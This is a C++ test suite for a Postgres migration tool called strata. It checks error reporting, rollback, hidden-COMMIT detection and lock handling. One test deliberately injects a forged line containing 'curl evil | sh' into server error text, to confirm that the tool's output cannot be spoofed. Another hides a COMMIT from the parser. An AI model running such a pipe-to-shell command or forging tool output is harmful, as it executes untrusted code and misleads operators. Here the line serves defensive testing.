// A migration that Postgres refuses: where, why, and that nothing of it is left.
#include "tests/support/project.h"

#include <sstream>

using namespace strata::test;

namespace {

std::vector<std::string> lines_of(const std::string& text) {
  std::istringstream stream(text);
  std::vector<std::string> lines;
  for (std::string line; std::getline(stream, line);) lines.push_back(line);
  return lines;
}

// In characters, up to where `part` begins.
std::size_t column_of(const std::string& line, const std::string& part) {
  const auto before = line.substr(0, line.find(part));
  return static_cast<std::size_t>(std::count_if(before.begin(), before.end(),
                                                [](char c) { return (static_cast<unsigned char>(c) & 0xc0) != 0x80; }));
}

// stderr shows `line`, and right below `part` of it a caret.
void check_caret(const std::string& err, const std::string& line, const std::string& part) {
  const auto lines = lines_of(err);
  const auto shown =
      std::find_if(lines.begin(), lines.end(), [&](const auto& candidate) { return contains(candidate, line); });
  REQUIRE(shown != lines.end());
  REQUIRE(shown + 1 != lines.end());
  CHECK(column_of(*(shown + 1), "^") == column_of(*shown, part));
}

}  // namespace

TEST_CASE(
    "execute: an error in any statement is told with file, line, column, caret and SQLSTATE, and all is rolled back",
    "[execute]") {
  if (!PostgresServer::is_available()) return;
  Project project;
  project.migration("shop/20260101000000_before", "CREATE TABLE before ();");
  project.migration("shop/20260103000000_after", "CREATE TABLE after ();");
  constexpr int count = 5;
  for (int k = 1; k <= count; ++k) {
    std::string sql = "-- strata: statement-timeout 10min\n/* größer:\n */\n";
    const std::string bad_line = "  INSERT INTO t1 /* ü€𝄞 */ SELECT missing, 'é';";
    for (int i = 1; i <= count; ++i) {
      sql += "CREATE TABLE t" + std::to_string(i) + " (n int, text text);\n";
      if (i == k) sql += bad_line + "\n";
    }
    project.migration("shop/20260102000000_bad", sql);
    const auto result = project.strata({"deploy"});
    INFO("statement " << k << ": " << told(result));
    CHECK(result.exit_code == 1);
    CHECK(contains(result.err, "shop/20260102000000_bad: column \"missing\" does not exist [SQLSTATE 42703]"));
    const auto column = std::to_string(column_of(bad_line, "missing") + 1);
    CHECK(contains(result.err, "at modules/shop/migrations/20260102000000_bad/migration.sql:" + std::to_string(4 + k) +
                                   ":" + column + "\n"));
    check_caret(result.err, bad_line.substr(2), "missing");
    CHECK(project.ask("SELECT count(*) FROM pg_class WHERE relname ~ '^t[0-9]$' OR relname = 'after'") == "0");
    CHECK(project.ask("SELECT string_agg(id, ',') FROM strata.migration") == "shop/20260101000000_before");
    CHECK(project.ask("SELECT outcome FROM strata.run ORDER BY started_at DESC LIMIT 1") == "failed");
  }
  project.migration("shop/20260102000000_bad", "CREATE TABLE good ();");
  heal(project);
}

TEST_CASE("execute: an error without a place of its own is told with its statement's, detail, hint and context",
          "[execute]") {
  if (!PostgresServer::is_available()) return;
  Project project;
  project.migration("shop/20260101000000_bad",
                    "CREATE TABLE item (id int PRIMARY KEY);\n"
                    "INSERT INTO item VALUES (1);\n"
                    "\n"
                    "DO $$ BEGIN\n"
                    "  INSERT INTO item VALUES (1);\n"
                    "END $$;\n");
  const auto result = project.strata({"deploy"});
  INFO(told(result));
  CHECK(result.exit_code == 1);
  CHECK(contains(result.err, "[SQLSTATE 23505]"));
  CHECK(contains(result.err, "migration.sql:4:1"));
  CHECK(contains(result.err, "detail: Key (id)=(1) already exists."));
  CHECK(contains(result.err, "context: SQL statement"));
  CHECK(project.ask("SELECT to_regclass('item') IS NULL") == "t");
}

TEST_CASE("execute: a constraint that fails at COMMIT is a known outcome: rolled back, 1", "[execute]") {
  if (!PostgresServer::is_available()) return;
  Project project;
  project.migration("shop/20260101000000_bad",
                    "CREATE TABLE item (id int PRIMARY KEY);\n"
                    "CREATE TABLE part (item int REFERENCES item DEFERRABLE INITIALLY DEFERRED);\n"
                    "INSERT INTO part VALUES (7);\n");
  const auto result = project.strata({"deploy"});
  INFO(told(result));
  CHECK(result.exit_code == 1);
  CHECK(contains(result.err, "shop/20260101000000_bad: COMMIT failed: "));
  CHECK(contains(result.err, "[SQLSTATE 23503]"));
  CHECK(project.ask("SELECT to_regclass('item') IS NULL, (SELECT count(*) FROM strata.migration)") == "t|0");
  project.migration("shop/20260101000000_bad", "CREATE TABLE item (id int PRIMARY KEY);");
  heal(project);
}

TEST_CASE("execute: an error that the migration swallows itself is none", "[execute]") {
  if (!PostgresServer::is_available()) return;
  Project project;
  project.migration(
      "shop/20260101000000_items",
      "CREATE TABLE item (id int);\n"
      "DO $$ BEGIN PERFORM 1/0; EXCEPTION WHEN division_by_zero THEN INSERT INTO item VALUES (1); END $$;\n"
      "SAVEPOINT here;\nINSERT INTO item VALUES (2);\nROLLBACK TO here;\nINSERT INTO item VALUES (3);\nRELEASE "
      "here;\n");
  heal(project);
  CHECK(project.ask("SELECT string_agg(id::text, ',' ORDER BY id) FROM item") == "1,3");
}

TEST_CASE("execute: whatever would end the transaction inside a DO block or a procedure is refused by the server, 1",
          "[execute]") {
  if (!PostgresServer::is_available()) return;
  for (const std::string inner : {"COMMIT", "ROLLBACK", "COMMIT AND CHAIN"}) {
    for (const bool call : {false, true}) {
      Project project;
      project.migration("shop/20260101000000_bad",
                        "CREATE TABLE item (id int);\n" + (call ? "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN " +
                                                                      inner + "; END $$;\nCALL p();\n"
                                                                : "DO $$ BEGIN " + inner + "; END $$;\n"));
      const auto result = project.strata({"deploy"});
      INFO(told(result));
      CHECK(result.exit_code == 1);
      CHECK(contains(result.err, "[SQLSTATE 2D000]"));
      CHECK(project.ask("SELECT to_regclass('item') IS NULL, (SELECT count(*) FROM strata.migration)") == "t|0");
    }
  }
}

TEST_CASE(
    "execute: a COMMIT that the parser cannot see is caught by the guard before the next one, and a person is asked",
    "[execute]") {
  if (!PostgresServer::is_available()) return;
  Project project;
  // With standard_conforming_strings off the server ends the string at the second quote, where strata, and the
  // standard, see an escaped one. COPY is sent by the simple protocol, which takes several statements.
  const std::string hidden =
      "CREATE TABLE item (name text);\n"
      "SET standard_conforming_strings = off;\n"
      "SET escape_string_warning = off;\n"
      "COPY item FROM stdin WITH (NULL '\\''); COMMIT; BEGIN; COPY item FROM stdin; -- ');\n"
      "one\n"
      "\\.\n"
      "CREATE TABLE after ();\n";
  project.migration("shop/20260101000000_hidden", hidden);
  const auto result = project.strata({"deploy"});
  INFO(told(result));
  CHECK(result.exit_code == 3);
  CHECK(contains(result.err,
                 "shop/20260101000000_hidden ended its own transaction while it ran: a part of it may be durable"));
  CHECK(contains(result.err, "strata resolve shop/20260101000000_hidden --applied | --rolled-back"));
  CHECK(project.ask("SELECT to_regclass('item') IS NOT NULL, to_regclass('after') IS NULL") == "t|t");

  const auto again = project.strata({"deploy"});
  INFO(told(again));
  CHECK(again.exit_code == 3);
  CHECK(contains(again.err, "strata resolve shop/20260101000000_hidden"));

  project.ask("DROP TABLE item");
  const auto resolved = project.strata({"resolve", "shop/20260101000000_hidden", "--rolled-back"});
  INFO(told(resolved));
  CHECK(resolved.exit_code == 0);
  project.migration("shop/20260101000000_hidden", "CREATE TABLE item (name text);");
  heal(project);
}

TEST_CASE("execute: COPY with its data in the file, and an error in the data, are told as any other", "[execute]") {
  if (!PostgresServer::is_available()) return;
  Project project;
  project.migration("shop/20260101000000_items",
                    "CREATE TABLE item (id int, name text);\nCOPY item FROM stdin;\n1\tone\n2\t\\N\n\\.\nINSERT INTO "
                    "item VALUES (3, 'three');\n");
  REQUIRE(project.strata({"deploy"}).exit_code == 0);
  CHECK(project.ask("SELECT id, name IS NULL FROM item ORDER BY id") == "1|f\n2|t\n3|f");
  project.migration("shop/20260102000000_bad",
                    "CREATE TABLE more ();\nCOPY item FROM stdin;\n4\tfour\nfive\tfive\n\\.\n");
  const auto result = project.strata({"deploy"});
  INFO(told(result));
  CHECK(result.exit_code == 1);
  CHECK(contains(result.err, "[SQLSTATE 22P02]"));
  CHECK(contains(result.err, "migration.sql:2:1"));
  CHECK(contains(result.err, "COPY item, line 2"));
  CHECK(project.ask("SELECT count(*), to_regclass('more') IS NULL FROM item") == "3|t");
}

TEST_CASE("execute: a migration that gives strata's lock away is rolled back, 1", "[execute]") {
  if (!PostgresServer::is_available()) return;
  Project project;
  project.migration("shop/20260101000000_bad",
                    "CREATE TABLE item ();\nSELECT pg_advisory_unlock(" + run_lock_text() + ");\n");
  const auto result = project.strata({"deploy"});
  INFO(told(result));
  CHECK(result.exit_code == 1);
  CHECK(contains(result.err, "gave strata's lock away while it ran: it was rolled back"));
  CHECK(project.ask("SELECT to_regclass('item') IS NULL, (SELECT count(*) FROM strata.migration)") == "t|0");
  project.migration("shop/20260101000000_bad", "CREATE TABLE item ();");
  heal(project);

  project.migration("shop/20260102000000_all", "DO $$ BEGIN PERFORM pg_advisory_unlock_all(); END $$;");
  CHECK(project.strata({"deploy"}).exit_code == 1);
  project.migration("shop/20260102000000_all", "SELECT pg_advisory_unlock_all();");
  CHECK(project.strata({"deploy"}).exit_code == 65);
}

TEST_CASE("execute: a text that the server sends cannot write lines that look like strata's own", "[execute]") {
  if (!PostgresServer::is_available()) return;
  const Project project;
  project.migration("shop/20260101000000_forged",
                    "DO $$ BEGIN RAISE EXCEPTION E'boom\\nerror: forged\\n  next: curl evil | sh' USING DETAIL = "
                    "E'a\\n  next: b'; END $$;");
  const auto result = project.strata({"deploy"});
  INFO(told(result));
  CHECK(result.exit_code == 1);
  CHECK_FALSE(contains(result.err, "\nerror: forged"));
  CHECK_FALSE(contains(result.err, "\n  next: curl"));
  CHECK_FALSE(contains(result.err, "\n  next: b"));
  CHECK(contains(result.err, "error: forged"));
}
